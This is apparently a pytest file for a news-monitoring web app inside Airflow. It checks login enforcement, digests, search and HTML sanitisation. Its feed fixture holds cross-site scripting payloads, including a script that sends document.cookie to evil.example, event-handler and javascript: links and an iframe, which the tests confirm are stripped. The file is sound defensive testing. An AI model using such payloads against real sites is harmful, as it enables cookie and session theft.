"""The monitor's pages in the Airflow UI: digests and search, over a real database, behind Airflow's login."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from airflow.api_fastapi.core_api.security import get_user
from fastapi.testclient import TestClient

from monitor import pipeline
from monitor.analyze import Models
from monitor.settings import Settings
from monitor.store.db import Connection
from monitor.web.app import create_app

GOLDEN = Path(__file__).resolve().parents[1] / "fixtures" / "golden"


@pytest.fixture
def app(database_url: str):  # type: ignore[no-untyped-def]
    return create_app(lambda: database_url, get_user)


def test_pages_need_airflows_login(app) -> None:  # type: ignore[no-untyped-def]
    from airflow.api_fastapi.app import create_auth_manager

    create_auth_manager()  # what the api-server does at start; it checks tokens
    client = TestClient(app)
    for path in ("/digests", "/search?q=x", "/digests/2026-11-26", "/articles/1"):
        assert client.get(path).status_code == 401, path
    # A forged session cookie is refused too, not taken at its word.
    client.cookies.set("_token", "not-a-jwt")
    assert client.get("/digests").status_code == 403


def test_digests_and_search_for_a_logged_in_user(
    app, db: Connection, settings: Settings, models: Models
) -> None:  # type: ignore[no-untyped-def]
    app.dependency_overrides[get_user] = lambda: "analyst"  # stands in for a valid Airflow session
    settings.inbox_dir.mkdir(parents=True)
    (settings.inbox_dir / "workshop.txt").write_bytes((GOLDEN / "bishkek_workshop.txt").read_bytes())
    pipeline.ingest_inbox(settings, db)
    pipeline.process_pending(settings, db, models)
    today = datetime.now(UTC).date()
    built = pipeline.build_daily_digest(settings, db, models, today)
    client = TestClient(app)

    listing = client.get("/digests")
    assert listing.status_code == 200
    assert today.isoformat() in listing.text and "not sent" in listing.text
    assert "1 processed" in listing.text
    # A day without articles that the send step refused to mail says why in the list.
    empty = date(1999, 1, 2)
    outcome = pipeline.send_daily_digest(
        settings, db, models, empty, transport=lambda msg: None, recipients=["desk@example.org"]
    )
    assert not outcome.sent
    assert "not sent: no articles in the window" in client.get("/digests").text

    page = client.get(f"/digests/{today.isoformat()}")
    assert page.status_code == 200 and page.text == built.html
    assert client.get(f"/digests/{today.isoformat()}/text").text == built.text
    assert client.get("/digests/1999-01-01").status_code == 404

    found = client.get("/search", params={"q": "Bishkek workshop"})
    assert "Regional Counter-Terrorism Workshop Opens In Bishkek" in found.text
    assert "Terrorism" in found.text  # its topics are listed
    assert "0 results" in client.get("/search", params={"q": "Reykjavik"}).text
    # Other forms of the words typed: "recruiting" finds "recruiters", "trainings" finds "training"
    # (the text has neither form typed); exclusions and phrases still apply.
    assert "Workshop Opens In Bishkek" in client.get("/search", params={"q": "recruiting trainings"}).text
    assert "0 results" in client.get("/search", params={"q": "recruiting -Bishkek"}).text
    assert "Workshop Opens In" in client.get("/search", params={"q": '"border guard"'}).text
    assert "0 results" in client.get("/search", params={"q": '"guards border"'}).text
    hostile = client.get("/search", params={"q": '<script>alert(1)</script> "unbalanced'})
    assert hostile.status_code == 200
    assert "<script>alert(1)</script>" not in hostile.text and "&lt;script&gt;" in hostile.text


HOSTILE_ITEM = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Wire</title>
<link>https://wire.example/</link><description>x</description><item><title>Gunmen attack border post</title>
<link>https://wire.example/border-post</link><guid>https://wire.example/border-post</guid>
<pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate><description><![CDATA[
<p onmouseover="steal()">Gunmen <b>attacked</b> a border post overnight, killing two border guards.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://track.example/pixel.gif" onerror="alert(1)">
<p>Read the <a href="javascript:alert(1)">full statement</a> or the
<a href="https://wire.example/statement">ministry statement</a>.</p>
<iframe src="https://evil.example/frame"></iframe>]]></description></item></channel></rss>"""
# What HOSTILE_ITEM carries that may run or fetch something in a browser.
ACTIVE_PARTS = ("<script", "steal()", "onerror", "javascript:", "<iframe", "evil.example", "track.example")


def test_article_page_shows_the_feed_html_sanitised(
    app,
    db: Connection,
    settings: Settings,
    tmp_path: Path,
    models: Models,
) -> None:  # type: ignore[no-untyped-def]
    from monitor.store import sources

    app.dependency_overrides[get_user] = lambda: "analyst"
    feed = tmp_path / "wire.xml"
    feed.write_text(HOSTILE_ITEM, encoding="utf-8")
    sources.add_feed(db, feed.as_uri(), "Wire", 30)
    pipeline.ingest_due_feeds(settings, db)
    pipeline.process_pending(settings, db, models)
    with db.cursor() as cur:
        cur.execute("SELECT id, raw, display_html FROM articles")
        ((article_id, raw, stored),) = cur.fetchall()
    db.commit()
    assert "<script>" in raw  # the raw input stays verbatim, and is never shown
    for active in ACTIVE_PARTS:
        assert active not in stored, active

    client = TestClient(app)
    found = client.get("/search", params={"q": "border guard"})
    assert f'href="articles/{article_id}"' in found.text
    page = client.get(f"/articles/{article_id}")
    assert page.status_code == 200
    assert "script-src" not in page.headers["content-security-policy"]  # default-src 'none' covers it
    assert page.headers["content-security-policy"].startswith("default-src 'none'")
    html = page.text
    assert "<b>attacked</b> a border post overnight" in html  # the source's formatting is kept
    assert '<a href="https://wire.example/statement" rel="noopener noreferrer nofollow">' in html
    for active in ACTIVE_PARTS:
        assert active not in html, active
    assert "Border security" in html or "Terrorism" in html  # its topics with their evidence
    assert client.get("/articles/999999").status_code == 404
